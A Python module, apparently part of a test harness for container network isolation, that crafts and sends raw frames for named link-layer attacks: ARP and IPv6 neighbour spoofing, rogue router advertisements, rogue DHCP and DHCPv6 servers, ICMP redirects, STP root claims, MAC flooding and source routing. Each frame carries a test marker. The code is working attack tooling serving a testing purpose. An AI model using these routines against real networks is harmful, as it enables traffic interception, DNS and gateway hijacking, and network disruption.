"""The attacks of root inside a container, by name. Each gives the frames to send; attacks.ts has the parameters.

An attack is proven by its effect (state.py on the victim) or by its marker (sniff.py, or the servers of echo.py).
"""

import os
import struct

import frames as f
from addresses import error_name, interface, ip_bytes
from crafting import Request

STP_GROUP = bytes.fromhex("0180c2000000")
LLDP_GROUP = bytes.fromhex("0180c200000e")


def plain(r):
    return r.datagram(r.victim_mac, r.victim, source_port=r.get("sourcePort", 40000))


def vlan(r):
    tags = [(f.VLAN_OUTER if tag["protocol"] == "802.1ad" else f.VLAN, tag["id"]) for tag in r.get("tags")]
    return r.datagram(r.victim_mac, r.victim, tags=tags)


def odd_ethertype(r):
    return [r.frame(r.victim_mac, r.get("ethertype", 0x88B5), r.marker)]


def echo_request(r):
    source, body = r.source_for(r.victim), struct.pack("!HH", 1, 1) + r.marker
    if len(r.victim) == 4:
        return r.packets(r.victim_mac, source, r.victim, f.ICMP, f.icmp(8, 0, body))
    return r.packets(r.victim_mac, source, r.victim, f.ICMPV6, f.icmpv6(source, r.victim, 128, 0, body))


def segment(r):
    """A TCP segment with the marker as its data, and whichever flags are asked for."""
    source = r.source_for(r.victim)
    message = f.tcp(source, r.victim, r.get("sourcePort", 40000), r.port, r.get("flags", ()), r.marker)
    return r.packets(r.victim_mac, source, r.victim, f.TCP, message)


def packet(r):
    """Any protocol there is a number for; `payload` goes before the marker."""
    source = r.source_for(r.victim)
    message = bytes.fromhex(r.get("payload", "")) + r.marker
    if r.get("protocol") == f.ICMP:
        message = f.icmp(message[0], message[1], message[4:])
    elif r.get("protocol") == f.ICMPV6:
        message = f.icmpv6(source, r.victim, message[0], message[1], message[4:])
    return r.packets(r.victim_mac, source, r.victim, r.get("protocol"), message)


def arp_reply(r):
    claimed = r.mac("claimedMac", r.own.mac)
    return [r.frame(r.victim_mac, f.ARP, f.arp(2, claimed, r.ip("claim"), r.victim_mac, r.victim, r.marker))]


def arp_request(r):
    claimed = r.mac("claimedMac", r.own.mac)
    payload = f.arp(1, claimed, r.ip("claim"), bytes(6), r.victim, r.marker)
    return [r.frame(r.victim_mac if r.get("unicast") else f.BROADCAST, f.ARP, payload)]


def arp_gratuitous(r):
    claimed, claim = r.mac("claimedMac", r.own.mac), r.ip("claim")
    reply = r.get("as") == "reply"
    payload = f.arp(2 if reply else 1, claimed, claim, f.BROADCAST if reply else bytes(6), claim, r.marker)
    return [r.frame(f.BROADCAST, f.ARP, payload)]


def nd_advertisement(r):
    """RFC 4861, 4.4; to all nodes when no victim is named."""
    claim = r.ip("claim")
    flags = (r.get("router", False) << 31) | (r.get("solicited", False) << 30) | (r.get("override", True) << 29)
    body = struct.pack("!I", flags) + claim + f.nd_option(2, r.mac("claimedMac", r.own.mac))
    if r.get("victim"):
        return r.discovery(r.victim_mac, r.ip("source", claim), r.victim, 136, body)
    return r.discovery(f.multicast_mac(f.ALL_NODES), r.ip("source", claim), f.ALL_NODES, 136, body)


def nd_solicitation(r):
    """RFC 4861, 4.3: asks the victim for its address in the name of another, whose hardware address would be ours."""
    body = bytes(4) + r.victim + f.nd_option(1, r.mac("claimedMac", r.own.mac))
    return r.discovery(r.victim_mac, r.ip("claim"), r.victim, 135, body)


def router_advertisement(r):
    """RFC 4861, 4.2, with a prefix to make addresses of (4.6.2), an MTU, and a name server (RFC 8106)."""
    lifetime = r.get("lifetime", 1800)
    body = struct.pack("!BBHII", 64, 0, lifetime, 0, 0)
    body += f.nd_option(1, r.mac("claimedMac", r.own.mac))
    if r.get("prefix"):
        address, _, length = r.get("prefix").partition("/")
        body += f.nd_option(3, struct.pack("!BBIII", int(length), 0xC0, 3600, 1800, 0) + ip_bytes(address))
    if r.get("mtu"):
        body += f.nd_option(5, struct.pack("!HI", 0, r.get("mtu")))
    if r.get("dns"):
        body += f.nd_option(25, struct.pack("!HI", 0, 3600) + ip_bytes(r.get("dns")))
    source = r.ip("source", r.own.link_local)
    if r.get("victim"):
        return r.discovery(r.victim_mac, source, r.victim, 134, body)
    return r.discovery(f.multicast_mac(f.ALL_NODES), source, f.ALL_NODES, 134, body)


def redirect_ipv4(r):
    """RFC 792: in the name of the victim's gateway, about an echo reply: the one packet that needs no socket of the victim."""
    sent = f.ipv4(r.victim, r.ip("destination"), f.ICMP, f.icmp(0, 0, struct.pack("!HH", 1, 1) + r.marker))
    message = f.icmp(5, 1, r.ip("via") + sent)
    return [r.frame(r.victim_mac, f.IPV4, f.ipv4(r.ip("gateway"), r.victim, f.ICMP, message))]


def redirect_ipv6(r):
    """RFC 4861, 4.5: in the name of the victim's router, by its link-local address."""
    via = r.ip("via")
    body = bytes(4) + via + r.ip("destination") + f.nd_option(2, r.mac("claimedMac", r.own.mac))
    return r.discovery(r.victim_mac, r.ip("gateway"), r.victim, 137, body)


def dhcp_options(kind, r):
    server = r.ip("server")
    return [
        (53, bytes((kind,))),
        (54, server),
        (51, struct.pack("!I", 3600)),
        (1, r.ip("netmask", b"\xff\xff\xff\x00")),
        (3, r.ip("gateway", server)),
        (6, r.ip("dns", server)),
        (224, r.marker),
    ]


def dhcp_answer(r, kind, xid=None):
    """RFC 2131: broadcast, as to a client without an address; 2 is an offer, 5 the acknowledgement."""
    number = r.get("xid", 1) if xid is None else xid
    message = f.bootp(2, number, r.victim_mac, r.ip("offer"), r.ip("server"), dhcp_options(kind, r))
    everyone = b"\xff" * 4
    return r.datagram(r.victim_mac, everyone, r.ip("server"), 67, 68, message)


def dhcpv6_answer(r, kind):
    """RFC 8415: 2 advertises, 7 replies; an address, and a name server."""
    lease = struct.pack("!III", 1, 0, 0) + struct.pack("!HH", 5, 24) + r.ip("offer") + struct.pack("!II", 1800, 3600)
    identity = struct.pack("!HH", 3, 1)
    options = [
        (1, identity + r.victim_mac),
        (2, identity + r.own.mac),
        (3, lease),
        (23, r.ip("dns", r.own.link_local)),
        (65001, r.marker),
    ]
    message = f.dhcpv6(kind, r.get("xid", 1), options)
    return r.datagram(r.victim_mac, r.victim, r.ip("source", r.own.link_local), 547, 546, message)


def stp_bpdu(r):
    """A configuration BPDU (IEEE 802.1D, 9.3.1) that claims to be the root with the best priority there is."""
    root = struct.pack("!H", r.get("priority", 0)) + r.own.mac
    times = struct.pack("!HHHH", 0, 20 * 256, 2 * 256, 15 * 256)
    bpdu = struct.pack("!HBBB", 0, 0, 0, 0) + root + struct.pack("!I", 0) + root + struct.pack("!H", 0x8001) + times
    payload = f.llc(bpdu)
    # What follows the length is the trailer, where the marker is.
    return [r.frame(STP_GROUP, len(payload), payload + r.marker)]


def lldp(r):
    def entry(kind, value):
        return struct.pack("!H", kind << 9 | len(value)) + value

    identity = entry(1, b"\x04" + r.own.mac) + entry(2, b"\x05eth0") + entry(3, struct.pack("!H", 120))
    return [r.frame(LLDP_GROUP, f.LLDP, identity + entry(5, r.marker) + entry(0, b""))]


def mac_flood(r):
    """Datagrams from as many made-up hardware addresses as asked, locally administered, to the victim or to all."""
    result = []
    destination = r.victim_mac if r.get("victim") else f.BROADCAST
    address = r.victim if r.get("victim") else b"\xff" * 4
    source = r.source_for(address)
    packet = f.ipv4(source, address, f.UDP, f.udp(source, address, 40000, r.port, r.marker))
    for _ in range(r.get("number", 1000)):
        result.append(f.ethernet(destination, b"\x02" + os.urandom(5), f.IPV4, packet))
    return result


def source_route(r):
    """Loose or strict source routing (RFC 791, 3.1): to the first hop, which is to send it on to the rest."""
    hops = [ip_bytes(hop) for hop in r.get("hops")]
    source = r.source_for(r.victim)
    final = hops[-1]
    route = b"".join(hops)
    options = struct.pack("!BBB", 137 if r.get("strict") else 131, 3 + len(route), 4) + route
    # The checksum is over where the datagram ends up.
    message = f.udp(source, final, 40000, r.port, r.marker)
    return [r.frame(r.victim_mac, f.IPV4, f.ipv4(source, r.victim, f.UDP, message, options))]


def routing_header(r):
    """To the first segment, which is to send it on to the rest (RFC 8200, 4.4; RFC 8754)."""
    segments = [r.victim, *(ip_bytes(hop) for hop in r.get("hops"))]
    source = r.source_for(r.victim)
    message = f.udp(source, segments[-1], 40000, r.port, r.marker)
    header = f.routing_header(f.UDP, r.get("routingType", 0), segments)
    return [r.frame(r.victim_mac, f.IPV6, f.ipv6(source, r.victim, f.ROUTING, header + message))]


ATTACKS = {
    "plain": plain,
    "foreign-mac": plain,
    "foreign-ipv4": plain,
    "foreign-ipv6": plain,
    "echo-request": echo_request,
    "tcp-segment": segment,
    "packet": packet,
    "vlan": vlan,
    "odd-ethertype": odd_ethertype,
    "arp-reply": arp_reply,
    "arp-request": arp_request,
    "arp-gratuitous": arp_gratuitous,
    "nd-advertisement": nd_advertisement,
    "nd-solicitation": nd_solicitation,
    "router-advertisement": router_advertisement,
    "redirect-ipv4": redirect_ipv4,
    "redirect-ipv6": redirect_ipv6,
    "dhcp-offer": lambda r: dhcp_answer(r, 2),
    "dhcp-ack": lambda r: dhcp_answer(r, 5),
    "dhcpv6-advertise": lambda r: dhcpv6_answer(r, 2),
    "dhcpv6-reply": lambda r: dhcpv6_answer(r, 7),
    "stp-bpdu": stp_bpdu,
    "lldp": lldp,
    "mac-flood": mac_flood,
    "source-route": source_route,
    "routing-header": routing_header,
}


def frames_of(own, parameters):
    return ATTACKS[parameters["attack"]](Request(own, parameters))


def attack(request):
    """{attacks: [{attack, interface, marker, repeat?, ...}]} -> [{sent, errors}], in order"""
    return [send(parameters) for parameters in request["attacks"]]


def send(parameters):
    sent, errors = 0, {}
    try:
        own = interface(parameters["interface"])
    except OSError as error:
        return {"sent": 0, "errors": {error_name(error): 1}}
    for frame in frames_of(own, parameters) * parameters.get("repeat", 1):
        try:
            own.send(frame, parameters.get("toldProtocol", 0))
            sent += 1
        except OSError as error:
            # ENOBUFS is what a firewall's drop on the way out looks like, too.
            name = error_name(error)
            errors[name] = errors.get(name, 0) + 1
    return {"sent": sent, "errors": errors}
